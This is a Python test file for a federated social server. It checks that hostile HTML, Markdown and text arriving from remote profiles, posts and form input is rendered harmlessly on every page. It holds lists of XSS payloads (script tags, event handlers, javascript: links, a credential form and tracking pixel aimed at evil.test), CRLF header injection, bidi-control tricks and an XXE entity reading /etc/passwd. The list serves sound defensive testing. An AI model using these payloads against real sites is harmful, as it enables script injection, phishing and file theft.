"""What strangers write, on every page where it is shown (M32, T-178 to T-187): nothing of it does anything.

`tests/text/test_html.py` looks at the cleaner; here whole pages are looked at, with whatever stands on them.
"""

from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass
from typing import Any
from urllib.parse import quote

import pytest
import pytest_asyncio

from node.model.account import Actor
from node.model.draft import Draft
from node.model.login import Role
from node.outbox.profile import ProfileChange, change
from node.outbox.publish import publish
from tests.hostile.harmless import assert_harmless
from tests.hostile.story import Scene, Visitor, log_in, reader, shared
from tests.remote import PUBLIC
from tests.text.hostile import ROWS

WRITTEN = {
    "a script": "<script>alert(1)</script>",
    "a script behind our attribute": '"><script>alert(1)</script>',
    "a handler behind our attribute": "\" onmouseover=alert(1) x='",
    "a handler behind a single quote": "' autofocus onfocus=alert(1) x=\"",
    "the end of our title": "</title></head><body onload=alert(1)>",
    "the end of our form": '</textarea></form><form action="https://evil.test"><input name=passwort>',
    "the end of our script": "</script><script>alert(1)</script>",
    "a comment": "<!-- --><!--><img src=x onerror=alert(1)>-->",
    "a picture that counts readers": '<img src="https://evil.test/pixel.gif">',
    "a picture with a handler": "<img/src=x/onerror=alert(1)>",
    "a style": '<p style="position:fixed;inset:0">x<style>body{display:none}</style>',
    "a frame": '<iframe src="https://evil.test"></iframe>',
    "another base": '<base href="https://evil.test/"><meta http-equiv=refresh content="0;url=https://evil.test">',
    "a drawing": '<svg onload=alert(1)><use href="data:image/svg+xml;base64,x"/></svg>',
    "javascript:": "javascript:alert(1)//https://there.test",
    "data:": "data:text/html,<script>alert(1)</script>",
    "a template": "{{ 7919 * 7927 }}{% for x in f.site %}{{ x }}{% endfor %}${7919*7927}#{7919*7927}",
    "a placeholder of ours": "{name} {count} {0} %s %(name)s \ue000 \ue0000\ue000",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
    "letters that turn round": "\u202eevil\u202c \u2066x\u2069 \u200fy",
    "letters nobody sees": "\u200b\u200d\u00ad\ufeff\u3164",
    "line ends and escapes": "a\r\nSet-Cookie: x=y\r\n\r\n<script>\x1b[31m",
    "XML": "<![CDATA[<script>]]><?xml version='1.0'?><!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>&a;",
}


@dataclass
class House:
    """The scene, with alice logged in as an administrator."""

    scene: Scene
    alice: Visitor

    @property
    def address(self) -> str:
        return f"/@bob@there.test:{self.scene.there.port}"


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def house(scene: Scene) -> AsyncIterator[House]:
    yield House(scene, await log_in(scene.node, scene.alice, role=Role.ADMIN))


def hostile_profile(scene: Scene, text: str) -> dict[str, Any]:
    return {
        **scene.bob.document(),
        "name": text,
        "summary": f"<p>{text}</p>",
        "url": text,
        "icon": {"type": "Image", "url": f"https://evil.test/{text}", "name": text},
        "image": {"type": "Image", "url": text},
        "attachment": [
            {"type": "PropertyValue", "name": text, "value": text},
            {"type": "PropertyValue", "name": "Netz", "value": f'<a href="{text}">x</a>'},
            {"type": "Link", "name": text, "href": text},
        ],
        "tag": [{"type": "Emoji", "name": f":{text}:", "icon": {"type": "Image", "url": text}}],
        "alsoKnownAs": [text],
    }


def hostile_notes(scene: Scene, text: str) -> Iterator[dict[str, Any]]:
    everywhere = {
        "content": f'<p>{text}</p><a href="{text}">{text}</a> <a href=\'{text}\' class="{text}">x</a>',
        "summary": text,
        "name": text,
        "url": [text, {"type": "Link", "href": text, "mediaType": "text/html"}],
        "cc": [scene.alice.uri, scene.bob.followers],
        "tag": [
            {"type": "Mention", "href": scene.alice.uri, "name": text},
            {"type": "Hashtag", "name": "#geheim", "href": text},
            {"type": "Hashtag", "name": f"#{text}", "href": text},
            {"type": "Emoji", "name": f":{text}:", "icon": {"type": "Image", "url": text}},
        ],
        "attachment": [
            {
                "type": "Image",
                "mediaType": "image/png",
                "url": "https://evil.test/a.png",
                "name": text,
                "summary": text,
            },
            {
                "type": "Image",
                "mediaType": text,
                "url": text,
                "name": text,
                "blurhash": text,
                "focalPoint": [text, text],
            },
            {"type": "Document", "url": "https://evil.test/x.svg", "name": text, "width": text, "height": text},
            {"type": "Link", "href": text, "name": text},
        ],
        "contentMap": {"de": f"<p>{text}</p>", text: f"<p>{text}</p>"},
        "language": text,
        "quoteUrl": text,
        "sensitive": True,
        "location": {"type": "Place", "name": text},
    }
    yield scene.bob.note(**everywhere)
    yield scene.bob.note(**{**everywhere, "summary": None, "inReplyTo": scene.post.uri, "name": None})
    yield scene.bob.note(**{**everywhere, "type": "Question", "oneOf": [{"name": text}, {"name": f"{text} 2"}]})
    yield scene.bob.note(**{**everywhere, "type": "Article"})
    yield scene.bob.note(**{**everywhere, "type": "Event", "startTime": "2026-12-24T18:00:00Z"})
    yield scene.bob.note(
        **{**everywhere, "type": "Video", "mediaType": "text/markdown", "content": f"[x]({text}) {text}"}
    )
    yield scene.bob.note(**{**everywhere, "type": "Sonderbar"})


async def pages_about(house: House, ids: list[int]) -> AsyncIterator[tuple[str, str]]:
    """Everything a reader and alice can look at, as (path, page)."""
    bob = await house.scene.known(house.scene.bob)
    public = [
        "/oeffentlich",
        "/tags/geheim",
        house.address,
        f"/@alice/{house.scene.post.id}",
        *(f"{house.address}/{number}" for number in ids),
    ]
    private = [
        f"/suche?q={bob.name}",
        f"{house.address}/folgt",
        "/@alice/folgt",
        "/start",
        "/mitteilungen",
        "/anfragen",
        "/folgen",
        "/profil",
        f"/kanal/{bob.id}/melden",
        f"/verfassen?antwort_auf={ids[0]}",
        f"/beitrag/{ids[0]}/melden",
        f"{house.address}/{ids[0]}/verlauf",
    ]
    visits = [(reader(house.scene.node), path) for path in public]
    visits += [(house.alice, path) for path in (*public[2:5], *private)]
    for visitor, path in visits:
        answer = await visitor.get(path)
        assert answer.status == 200, path
        assert "default-src 'none'" in answer.headers["Content-Security-Policy"]
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
        yield path, answer.text


BAD = (
    "<script></script>",
    "<p onclick=x>",
    "<p style=x>",
    "<img src=https://evil.test/x>",
    "<form action=https://evil.test>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=//evil.test>x</a>",
    "<iframe></iframe>",
    "<base href=/x>",
    "<meta http-equiv=refresh>",
    "<link rel=stylesheet href=/x>",
    "<!-- x -->",
)


@pytest.mark.parametrize("bad", BAD)
def test_the_look_at_pages_sees_what_is_not_harmless(bad: str) -> None:
    """Else these tests would prove nothing."""
    with pytest.raises(AssertionError):
        assert_harmless(f"<!doctype html><html><body><p>x</p>{bad}</body></html>", "http://here.test")


@shared
@pytest.mark.parametrize("what", WRITTEN)
async def test_what_a_stranger_writes_does_nothing_on_any_page(house: House, what: str) -> None:
    scene, text = house.scene, WRITTEN[what]
    ids = []

    await scene.bob.deliver(scene.bob.activity("Update", hostile_profile(scene, text)), scene.node)
    for note in hostile_notes(scene, text):
        await scene.bob.deliver(scene.bob.create(note), scene.node)
        await scene.node.work()
        stored = await scene.node.find_post(note["id"])
        if stored is not None:
            ids.append(stored.id)
    await scene.bob.deliver(scene.bob.activity("Flag", [scene.post.uri], content=text), scene.node)
    await scene.bob.deliver(scene.bob.activity("Like", scene.post.uri, content=text), scene.node)
    await scene.bob.deliver(scene.bob.activity("Announce", scene.post.uri, to=[PUBLIC]), scene.node)
    await scene.bob.deliver(scene.bob.follow(scene.alice), scene.node)
    await scene.node.work()

    assert len(ids) >= 4
    async for path, page in pages_about(house, ids[:3]):
        try:
            assert_harmless(page, scene.node.origin)
        except AssertionError as problem:
            raise AssertionError(f"{path}: {problem}") from problem
        assert "62773913" not in page


@shared
async def test_hostile_markup_does_nothing_in_a_timeline(house: House) -> None:
    """All rows of the cleaner's corpus, one after the other on real pages."""
    scene = house.scene
    for content in ROWS.values():
        note = scene.bob.note(content=content.encode("utf-8", "ignore").decode())
        await scene.bob.deliver(scene.bob.create(note), scene.node)
    await scene.node.work()

    path, pages = "/start", 0
    while path and pages < 20:
        answer = await house.alice.get(path)
        assert_harmless(answer.text, scene.node.origin)
        older = answer.text.partition('href="/start?vor=')[2].partition('"')[0]
        path, pages = f"/start?vor={older}" if older else "", pages + 1

    assert pages >= 5


@shared
async def test_names_are_isolated_and_nothing_in_them_turns_the_line_round(house: House) -> None:
    """T-180"""
    scene = house.scene
    profile = {**scene.bob.document(), "name": "Amt \u202etmA\u202c \u2066für\u2069 Ordnung\u200f"}
    await scene.bob.deliver(scene.bob.activity("Update", profile), scene.node)
    await scene.node.work()

    page = (await house.alice.get(house.address)).text

    assert "<bdi>Amt tmA für Ordnung</bdi>" in page
    assert not set(page) & set("\u202e\u202c\u2066\u2069\u200f")


@shared
async def test_no_picture_of_others_is_loaded(house: House) -> None:
    """T-187, T-094: neither portraits nor attachments, nor emoji; and so nobody elsewhere learns who reads."""
    scene = house.scene
    icon = {"type": "Image", "url": "https://evil.test/portrait.png"}
    await scene.bob.deliver(
        scene.bob.activity("Update", {**scene.bob.document(), "icon": icon, "image": icon}), scene.node
    )
    picture = {"type": "Image", "mediaType": "image/png", "url": "https://evil.test/a.png", "name": "Ein Bild"}
    emoji = {"type": "Emoji", "name": ":blob:", "icon": {"type": "Image", "url": "https://evil.test/e.png"}}
    note = scene.bob.note("Schau :blob:", attachment=[picture], tag=[emoji])
    await scene.bob.deliver(scene.bob.create(note), scene.node)
    await scene.node.work()
    stored = await scene.node.find_post(note["id"])
    assert stored is not None

    for path in (house.address, f"{house.address}/{stored.id}", "/start"):
        page = (await house.alice.get(path)).text
        assert "evil.test/portrait.png" not in page
        assert 'src="https://evil.test' not in page
    assert ":blob:" in page


@shared
async def test_no_link_of_a_stranger_is_shown_as_verified(house: House) -> None:
    """T-178: whatever they send with it, in whatever classes; and none of them is recommended to search engines."""
    scene = house.scene
    link = '<a href="https://evil.test/" rel="me" class="checked verified">https://sparkasse.example</a>'
    field = {"type": "PropertyValue", "name": "Bank", "value": link, "verified_at": "2026-01-01", "verifiedAt": True}
    update = scene.bob.activity("Update", {**scene.bob.document(), "attachment": [field]})
    await scene.bob.deliver(update, scene.node)
    await scene.node.work()

    page = (await reader(scene.node).get(house.address)).text

    assert "sparkasse.example" in page
    assert 'class="checked"' not in page
    assert 'rel="nofollow noopener noreferrer"' in page


OWN = {
    "a link with javascript:": "[x](javascript:alert(1)) <javascript:alert(1)>",
    "HTML": "<script>alert(1)</script> <img src=x onerror=alert(1)> <b onclick=alert(1)>x</b>",
    "a picture": "![x](https://evil.test/pixel.png) ![y](javascript:alert(1))",
    "a reference": "[x][1]\n\n[1]: javascript:alert(1) 'x'",
    "attributes": "[x](https://a.test){onclick=alert(1) style=color:red}\n\n# x {#main .kern onclick=alert(1)}",
    "an autolink": "<https://a.test/\"onmouseover=alert(1)> https://a.test/'><script>alert(1)</script>",
}


@shared
@pytest.mark.parametrize("what", OWN)
async def test_what_our_own_people_write_does_nothing_either(house: House, what: str) -> None:
    """Text and Markdown; a member's session is all a stranger needs to get hold of."""
    scene = house.scene
    dora = await scene.node.create(f"dora{scene.there.number()}")

    ids = [
        (await publish(scene.node.node, Actor(dora), Draft(text=OWN[what], format=form, summary=OWN[what][:200]))).id
        for form in ("plain", "markdown")
    ]
    await change(
        scene.node.node,
        Actor(dora),
        ProfileChange(display_name=OWN[what][:60], source=OWN[what], fields=(("x", OWN[what][:100]),)),
    )
    preview = await house.alice.post("/verfassen", {"text": OWN[what], "form": "markdown", "tun": "vorschau"})
    await scene.node.work()

    pages = [preview.text]
    pages += [(await reader(scene.node).get(f"/@{dora.name}/{number}")).text for number in ids]
    pages += [(await reader(scene.node).get(path)).text for path in (f"/@{dora.name}", "/", "/lokal")]
    for page in pages:
        assert_harmless(page, scene.node.origin)


@shared
async def test_what_is_typed_comes_back_as_text(house: House) -> None:
    """On forms that were filled in wrongly, in searches, in error pages."""
    for text in WRITTEN.values():
        for answer in (
            await house.alice.get(f"/suche?q={quote(text)}"),
            await house.alice.post("/verfassen", {"text": "", "hinweis": text, "antwort": text}),
            await house.alice.post("/profil", {"name": text * 40, "ueber": text, "angabe": text, "wert": text}),
            await house.alice.post("/folgen", {"adresse": text}),
            await house.alice.post(
                f"/beitrag/{house.scene.post.id}/melden", {"grund": "" if len(text) % 2 else text * 200}
            ),
            await reader(house.scene.node).post("/verfassen", {"text": text}, token=""),
        ):
            assert answer.status < 500
            assert_harmless(answer.text or "<p>", house.scene.node.origin)
    typed = {"adresse": "".join(WRITTEN.values()), "passwort": "x", "zurueck": "/" + WRITTEN["a script"]}
    answer = await reader(house.scene.node).post("/anmelden", typed, token="")
    assert answer.status == 422
    assert_harmless(answer.text, house.scene.node.origin)
